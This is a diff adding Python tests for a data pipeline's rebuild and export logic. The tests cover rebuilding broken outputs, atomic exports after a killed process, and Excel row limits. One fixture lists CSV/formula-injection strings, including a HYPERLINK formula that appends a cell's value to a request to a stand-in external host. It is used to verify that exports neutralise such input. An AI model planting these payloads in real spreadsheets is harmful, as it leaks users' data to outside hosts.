@@ -222,3 +222,164 @@ def test_check_results_are_visible_through_dagster(refreshed: Refreshed) -> None
     assert {(e.asset_key.to_user_string(), e.check_name) for e in logged} == {
         (a, name) for (a, name) in evaluations if a != "raw/employment_monthly"
     }
+
+
+# --- issue 18: outputs that are missing or broken are rebuilt, exports are safe ------------------
+
+
+def test_missing_or_broken_outputs_are_rebuilt_not_skipped(data: Path) -> None:
+    from hyte_assets.lib.exports import export_dir
+    from hyte_assets.lib.publish import serving_path
+
+    publish_assets = ["publish", "exports", "vuosiraportti"]
+
+    def skipped(result: dg.ExecuteInProcessResult) -> dict[str, bool]:
+        return {
+            e.asset_key.to_user_string(): bool(e.materialization.metadata.get("skipped_unchanged_inputs"))
+            for e in result.get_asset_materialization_events()
+        }
+
+    first = run_job(assets=publish_assets)
+    assert first.success, failure_text(first)
+    assert skipped(first) == dict.fromkeys(publish_assets, True), "nothing changed: all three skip"
+
+    serving = serving_path(warehouse_path())
+    serving.write_bytes(serving.read_bytes()[: serving.stat().st_size // 3])  # truncated copy
+    export = export_dir(data / "exports") / "scorecard_goal.xlsx"
+    export.unlink()
+    (english,) = (data / "reports").glob("vuosiraportti_*_en.html")
+    english.unlink()
+
+    second = run_job(assets=publish_assets)
+
+    assert second.success, failure_text(second)
+    assert skipped(second) == dict.fromkeys(publish_assets, False)
+    con = duckdb.connect(str(serving), read_only=True)
+    try:
+        assert con.execute("select count(*) from reports.scorecard_goal").fetchone()[0] > 0
+    finally:
+        con.close()
+    assert export.is_file() and english.is_file()
+    assert skipped(run_job(assets=publish_assets)) == dict.fromkeys(publish_assets, True)
+
+
+HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Klikkaa")', "+41", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def hostile_table() -> duckdb.DuckDBPyConnection:
+    con = duckdb.connect()
+    con.execute("create schema reports")
+    con.execute("create table reports.notes (note varchar, value double, tags varchar[])")
+    con.executemany("insert into reports.notes values (?, ?, ?)", [[t, -1.5, [t]] for t in HOSTILE])
+    con.execute("insert into reports.notes values ('tavallinen - teksti', -2.0, [])")
+    return con
+
+
+def test_exported_text_never_becomes_a_formula(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from hyte_assets.lib.exports import export_dir, export_tables
+
+    export_tables(hostile_table(), ["reports.notes"], tmp_path)
+    folder = export_dir(tmp_path)
+
+    sheet = load_workbook(folder / "notes.xlsx").active
+    cells = list(sheet.iter_rows(min_row=2))
+    xml_text = [t.replace("\r", "\n") for t in HOSTILE]  # XML reads a bare CR as LF
+    assert [row[0].value for row in cells] == [*xml_text, "tavallinen - teksti"]
+    assert {row[0].data_type for row in cells} == {"s"}, "text cells are string cells, never formulas"
+    assert {row[1].value for row in cells} == {-1.5, -2.0} and {row[1].data_type for row in cells} == {"n"}
+    text = (folder / "notes.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
+    assert [r[0] for r in rows] == [*("'" + t for t in HOSTILE), "tavallinen - teksti"]
+    assert [r[2] for r in rows[:-1]] == ["'" + t for t in HOSTILE]  # list cells are text too
+    assert {r[1] for r in rows} == {"-1,5", "-2,0"}, "numbers keep their sign, unprefixed"
+
+
+def test_exports_leave_analysts_files_alone(tmp_path: Path) -> None:
+    from hyte_assets.lib.exports import export_dir, export_tables
+
+    mine = {"oma_analyysi.xlsx": b"analyst", "scorecard.csv": b"analyst's own", "notes.parquet": b"x"}
+    for name, content in mine.items():
+        (tmp_path / name).write_bytes(content)
+
+    exported = export_tables(hostile_table(), ["reports.notes"], tmp_path)
+    export_tables(hostile_table(), [], tmp_path)  # the table is no longer published
+
+    assert {n: (tmp_path / n).read_bytes() for n in mine} == mine
+    assert all(f.parent == export_dir(tmp_path) for f in exported[0].files)
+    assert list(export_dir(tmp_path).iterdir()) == [], "the project's own folder mirrors what is published"
+
+
+# Exports version `v` of two tables, and hangs (announcing it) after the first table's files are written.
+KILLED_EXPORT = """
+import sys, time
+import duckdb
+from hyte_assets.lib import exports
+
+root, version, hang = sys.argv[1], int(sys.argv[2]), sys.argv[3] == "hang"
+con = duckdb.connect()
+con.execute("create schema reports")
+for name in ("a", "b"):
+    con.execute(f"create table reports.{name} as select {version} as version from range(3)")
+write_xlsx = exports.write_xlsx
+def slow(path, **kwargs):
+    write_xlsx(path, **kwargs)
+    if hang and kwargs["sheet"] == "a":
+        print("HALFWAY", flush=True)
+        time.sleep(600)
+exports.write_xlsx = slow
+exports.export_tables(con, ["reports.a", "reports.b"], root)
+print("DONE", flush=True)
+"""
+
+
+def test_export_killed_halfway_leaves_one_whole_publication(tmp_path: Path) -> None:
+    from hyte_assets.lib.exports import export_dir
+
+    def export(version: int, hang: bool) -> subprocess.Popen[str]:
+        return subprocess.Popen(
+            [sys.executable, "-c", KILLED_EXPORT, str(tmp_path), str(version), "hang" if hang else "run"],
+            stdout=subprocess.PIPE,
+            text=True,
+            cwd=Path(__file__).resolve().parents[1],
+        )
+
+    first = export(1, hang=False)
+    assert first.communicate(timeout=120)[0].strip() == "DONE"
+    second = export(2, hang=True)
+    assert second.stdout is not None and second.stdout.readline().strip() == "HALFWAY"
+    os.kill(second.pid, signal.SIGKILL)
+    second.wait(timeout=30)
+
+    folder = export_dir(tmp_path)
+    con = duckdb.connect()
+    versions = {
+        p.name: [v for (v,) in con.execute(f"select distinct version from '{p}'").fetchall()]
+        for p in folder.glob("*.parquet")
+    }
+    assert versions == {"a.parquet": [1], "b.parquet": [1]}, "all files from the last whole publication"
+    csv_versions = {p.read_text(encoding="utf-8-sig").splitlines()[1] for p in folder.glob("*.csv")}
+    assert csv_versions == {"1"}
+    assert sorted(p.name for p in tmp_path.iterdir()) != ["hyte"]  # the killed run's temporary folder
+    third = export(3, hang=False)
+    assert third.communicate(timeout=120)[0].strip() == "DONE"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["hyte"], "leftovers of the killed run removed"
+
+
+def test_a_table_too_long_for_excel_gets_no_xlsx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from hyte_assets.lib import exports
+
+    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 5)  # Excel's 1 048 576, scaled down
+    (notes,) = exports.export_tables(hostile_table(), ["reports.notes"], tmp_path)
+
+    assert [f.name for f in notes.files] == ["notes.parquet", "notes.csv"]
+    assert "do not fit an Excel sheet" in notes.note
+    assert not (exports.export_dir(tmp_path) / "notes.xlsx").exists()
+    con = duckdb.connect()
+    assert con.execute(
+        f"select count(*) from '{exports.export_dir(tmp_path) / 'notes.parquet'}'"
+    ).fetchone() == (7,)
